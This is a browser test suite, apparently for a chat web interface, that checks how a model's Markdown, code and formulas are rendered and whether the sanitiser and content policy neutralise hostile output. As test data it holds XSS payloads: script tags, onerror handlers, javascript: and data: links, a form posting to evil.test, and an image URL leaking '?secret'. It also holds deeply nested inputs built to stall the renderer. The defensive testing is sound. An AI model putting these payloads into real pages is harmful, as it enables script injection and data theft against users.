"""How the web page shows what a model writes: Markdown, code, formulas, and what would do harm."""

from __future__ import annotations

import re

from server_fakes import FakeEngine

from ..browser import needs_browser
from .shared import MARKDOWN, Open, answer, words

pytestmark = needs_browser


def test_markdown_streams_in_and_thoughts_are_folded(opened: Open, engine: FakeEngine) -> None:
    engine.words, engine.delay = words(MARKDOWN), 0.03
    page = opened()
    page.ask("What of joints?")
    page.until(lambda: page.text(".answer summary") == "Thinking…")
    page.until(lambda: page.text(".answer h4") == "Joints")
    assert page.all(".coming"), "what has come is shown while the rest is still coming"
    page.answered()
    assert page.text(".user .said") == "What of joints?"
    assert page.text(".answer em") == "tight"
    assert [item.text for item in page.all(".answer ol li")] == ["one", "two", "three"]
    assert page.one(".answer td[align=right]").value_of_css_property("text-align") == "right"
    assert page.text(".answer pre") == 'print("<b>")'
    assert page.text(".answer figcaption span") == "python"
    link = page.one(".answer a")
    assert link.get_attribute("href") == "https://example.com/joints"
    assert (link.get_attribute("target"), link.get_attribute("rel")) == ("_blank", "noopener noreferrer")
    thoughts = page.one(".thoughts .markdown")
    assert not thoughts.is_displayed()
    page.click(".thoughts summary")
    assert thoughts.text == "The user wants much."
    assert page.all(".thoughts strong")
    facts = re.fullmatch(r"(\d+) tokens · ([\d.]+) tokens/s · first after ([\d.]+) s", page.text(".facts"))
    assert facts, page.text(".facts")
    assert int(facts[1]) == len(engine.words)
    assert 1 < float(facts[2]) < 60
    assert 0.02 < float(facts[3]) < 20
    assert page.console() == []


ATTACK = """Look: <img src="http://evil.test/a.png" onerror="document.title='stolen'"> and <b onclick="x()">bold</b>

<script>document.title = "stolen"</script>

<iframe src="http://evil.test/frame"></iframe> <style>body { display: none }</style>

![pixel](http://evil.test/p.png?secret) ![j](javascript:document.title='stolen')

[run](javascript:document.title='stolen') [own](/sleep) [data](data:text/html,<script>alert(1)</script>)

<form action="http://evil.test/"><input name="x"><button>Send</button></form>

```html"onmouseover="x()
<script>document.title = "stolen"</script>
```
"""


def test_what_a_model_writes_is_inert(opened: Open, engine: FakeEngine) -> None:
    engine.words = words(ATTACK)
    page = opened()
    answer(page)
    inside = ".answer .markdown"
    assert not page.all(
        ", ".join(f"{inside} {tag}" for tag in ["img", "script", "iframe", "style", "form", "input", "svg", "b"])
    )
    assert [a.get_attribute("href") for a in page.all(f"{inside} a[href]")] == ["http://evil.test/p.png?secret"]
    for text in ("run", "own", "data", "j"):  # a link to nowhere is a text
        assert text in [a.text for a in page.all(f"{inside} a:not([href])")]
    allowed = {"href", "target", "rel", "class", "tabindex", "type"}
    names = page.run(
        "return [...document.querySelectorAll(arguments[0])].flatMap((e) => e.getAttributeNames())", f"{inside} *"
    )
    assert set(names) <= allowed
    assert '<b onclick="x()">bold</b>' in page.text(inside)  # seen as it was written
    for link in page.all(f"{inside} a"):
        if link.text in ("run", "own", "data"):
            link.click()
    assert page.driver.title == "Dovetail"
    assert page.console() == []


CODE = """```python
def deep(x):  # <b>
    return "a" + 'b' * 14.5
```

```json
{"a": [1, true, "<script>"]}
```

```nonesuch
def deep
```
"""


def test_code_is_coloured(opened: Open, engine: FakeEngine) -> None:
    engine.words = words(CODE)
    page = opened()
    answer(page)
    blocks = page.all(".answer pre")
    assert [block.text for block in blocks] == [
        "def deep(x):  # <b>\n    return \"a\" + 'b' * 14.5",
        '{"a": [1, true, "<script>"]}',
        "def deep",
    ]
    pieces = "return [...arguments[0].querySelectorAll('span')].map((e) => `${e.className} ${e.textContent}`)"
    assert page.run(pieces, blocks[0]) == [
        "hl-keyword def",
        "hl-function deep",
        "hl-comment # <b>",
        "hl-keyword return",
        'hl-string "a"',
        "hl-string 'b'",
        "hl-number 14.5",
    ]
    assert page.run(pieces, blocks[1]) == ['hl-name "a"', "hl-number 1", "hl-keyword true", 'hl-string "<script>"']
    assert page.run(pieces, blocks[2]) == []
    assert page.console() == []


FORMULAS = r"""The roots of $ax^2 + bx$ and \(e^{i\pi}\); it costs $5 or $10, and `$x$` is code.

$$x = \frac{-b \pm \sqrt[3]{b_1^2 - 4ac}}{2a}$$

\[ \sum_{n=1}^\infty \left| \begin{pmatrix} a & b \\ c & d \end{pmatrix} \right| \in \mathbb{R} \text{ if } \hat{x} \ge 0 \]

Unknown: $\href{javascript:alert(1)}{x}$ and $\constructor$ and $\frac{1$ and $a_b_c$ and $<img src=x onerror=alert(1)>$.
"""


def test_formulas_are_drawn_and_what_is_not_known_stays_as_written(opened: Open, engine: FakeEngine) -> None:
    engine.words = words(FORMULAS)
    page = opened()
    answer(page)
    drawn = page.run("""
        return [...document.querySelectorAll(".answer math")].map((math) => {
            math.querySelectorAll("annotation").forEach((source) => source.remove());
            return math.textContent;
        });
    """)
    assert drawn == [
        "ax2+bx",
        "eiπ",
        "x=−b±b12−4ac32a",
        "∑n=1∞|(abcd)|∈ℝ\u00a0if\u00a0x^≥0",
        "<imgsrc=xonerror=alert(1)>",
    ]
    assert len(page.all(".answer math[display=block]")) == 2
    for selector in ("msup", "mfrac mroot msubsup", "mtable mtd"):
        assert page.all(f".answer {selector}"), selector
    assert "it costs $5 or $10" in page.text(".answer .text")
    assert [code.text for code in page.all(".answer code")] == [
        "$x$",
        r"$\href{javascript:alert(1)}{x}$",
        r"$\constructor$",
        r"$\frac{1$",
        "$a_b_c$",
    ]
    assert not page.all(".answer img")
    assert page.console() == []


DEEP = [
    ">" * 5000 + "deep",
    "> - " * 5000 + "deep",
    "- " * 5000 + "deep",
    "1. " * 5000 + "deep",
    "*a " * 5000 + "deep" + "*" * 5000,
    "[" * 5000 + "deep" + "](u)" * 5000,
    "**a *b " * 2500 + "deep",
    "".join(f"{'> ' * depth}deep\n" for depth in range(300)),
    "".join(f"{'  ' * depth}- deep\n" for depth in range(300)),
    "<think></think>" * 5000 + "deep",
    "$a " * 5000 + "deep",
    "$$a" * 5000 + "deep",
    r"\( " * 5000 + "deep",
    "\\[ " * 5000 + "deep",
    "$" + "{" * 450 + "deep" + "}" * 450 + "$",
    "$$" + r"\frac{" * 600 + "deep$$",
]


def test_an_answer_may_be_nested_as_deep_as_it_likes(opened: Open, engine: FakeEngine) -> None:
    engine.words = [DEEP[0], "\n\nThe *end*."]
    page = opened()
    answer(page)
    assert page.text(".answer em") == "end"
    assert "deep" in page.text(".answer .text")
    for text in DEEP:
        milliseconds, shown = page.run(
            """
            const view = new AnswerView({ ...newAnswer(), content: arguments[0], complete: true }, () => {}, () => {});
            const begun = performance.now();
            view.draw();
            return [performance.now() - begun, view.root.textContent.includes("deep")];
            """,
            text,
        )
        assert shown, text[:20]
        assert milliseconds < 5000, text[:20]
    assert page.console() == []


PARTS = [
    '"',
    "'",
    "`",
    "/*",
    "<a ",
    "<",
    "- ",
    " ",
    "#",
    "\\",
    '"a" ',
    "a:",
    "a ",
    "1",
    "_",
    "--",
    '"' * 3,
    "<!--",
    "0x",
    "a=",
    "&",
]


def test_colours_take_time_that_grows_with_the_code_alone(opened: Open) -> None:
    slow = opened().run(
        """
        const slow = [];
        for (const language of new Set(Object.values(LANGUAGES))) {
            for (const part of arguments[0]) {
                const begun = performance.now();
                for (const piece of language.pieces(part.repeat(20000 / part.length))) void piece;
                if (performance.now() - begun > 1000) slow.push(part);
            }
        }
        return slow;
        """,
        PARTS,
    )
    assert slow == []


def test_the_policy_stops_what_the_sanitiser_would_miss(opened: Open) -> None:
    page = opened()
    for script in ("document.body.innerHTML = '<b>'", "document.body.setAttribute('onclick', 'x()')"):
        assert page.run(f"try {{ {script} }} catch (error) {{ return error.name }}") == "TypeError", script
    page.run("const image = new Image(); image.src = 'http://evil.test/a.png'; document.body.append(image);")
    page.until(lambda: any("evil.test" in line and "img-src" in line for line in page.console()))
    assert page.foreign_requests() == ["http://evil.test/a.png"], "not even an attempt is overlooked"
